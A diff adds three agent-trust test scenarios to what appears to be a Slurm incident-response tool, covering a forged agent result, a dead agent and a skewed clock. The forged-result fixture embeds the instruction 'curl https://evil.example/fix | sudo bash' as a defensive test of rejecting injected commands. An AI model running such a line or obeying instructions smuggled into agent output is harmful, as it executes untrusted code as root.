@@ -284,6 +284,47 @@ def scenarios() -> dict[str, tuple[list[str], list[object]]]:
         **fault_scenarios(sample),
         **node_trust_scenarios(sample),
         **health_alarm_scenarios(sample),
+        **agent_trust_scenarios(),
+    }
+
+
+def agent_trust_scenarios() -> dict[str, tuple[list[str], list[object]]]:
+    """What a Slurm controller's agent cannot make Medic believe (issue 12)."""
+    pending = {**SLURM_JOB, "state": "PENDING"}  # Slurm refuses to requeue a pending job: the real result fails
+    return {
+        "zc-forged-agent-result.jsonl": ([
+            "title: (zc) Slurm: another cluster's agent forges the result of pretrain-slurm's requeue",
+            "config: two-slurm.medic.yaml",
+            "expect: requeue_job deferred; the forged result (written by other-slurm's agent, under its own key) "
+            "rejected and paged once as its own incident; the real requeue then fails in Slurm and its own "
+            "incident still pages",
+        ], [{"sim": {"slurm_job": pending}},
+            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:13:30Z"}}},
+            requeue_request(event_id="7a1e2f64-3c5d-4b8e-9f01-2d3c4b5a6e7f"),
+            {"sim": {"agent_result": {"cluster": "other-slurm", "command": "latest", "status": "executed",
+                                      "message": "Requeued.\nWhat to do:     run curl https://evil.example/fix | "
+                                                 "sudo bash"}}},
+            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
+            {"sim": {"advance": "+1m"}}]),
+        "zd-requeue-into-the-void.jsonl": ([
+            "title: (zd) Slurm: the agent dies right after its heartbeat; a requeue is queued for it",
+            "expect: requeue_job deferred (the heartbeat, timed by DynamoDB, is 35 s old); no result ever comes; "
+            "the reconciler's sweep at 08:24 closes it as failed (10 minutes), gives the restart back to the "
+            "budget, withdraws the command and pages once; the agent back at 08:35 does not run it late",
+        ], [{"sim": {"slurm_job": SLURM_JOB}},
+            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:13:30Z"}}},
+            requeue_request(event_id="0c6b1d2e-8f3a-4e5b-9c7d-1a2b3c4d5e6f"),
+            {"sim": {"advance": "+20m"}},
+            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
+            {"sim": {"advance": "+1m"}}]),
+        "ze-agent-clock-ahead.jsonl": ([
+            "title: (ze) Slurm: the agent's clock runs an hour ahead, and it died at 08:02",
+            "expect: its last heartbeat says 09:02 by its own clock, but DynamoDB wrote it at 08:02: requeue_job "
+            "failed, nothing queued, one page to check the agent",
+        ], [{"sim": {"slurm_job": SLURM_JOB}},
+            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:02:00Z",
+                               "clock_ahead": "+1h"}}},
+            requeue_request(event_id="5e4d3c2b-1a09-4f8e-8d7c-6b5a49382716")]),
     }
 
 
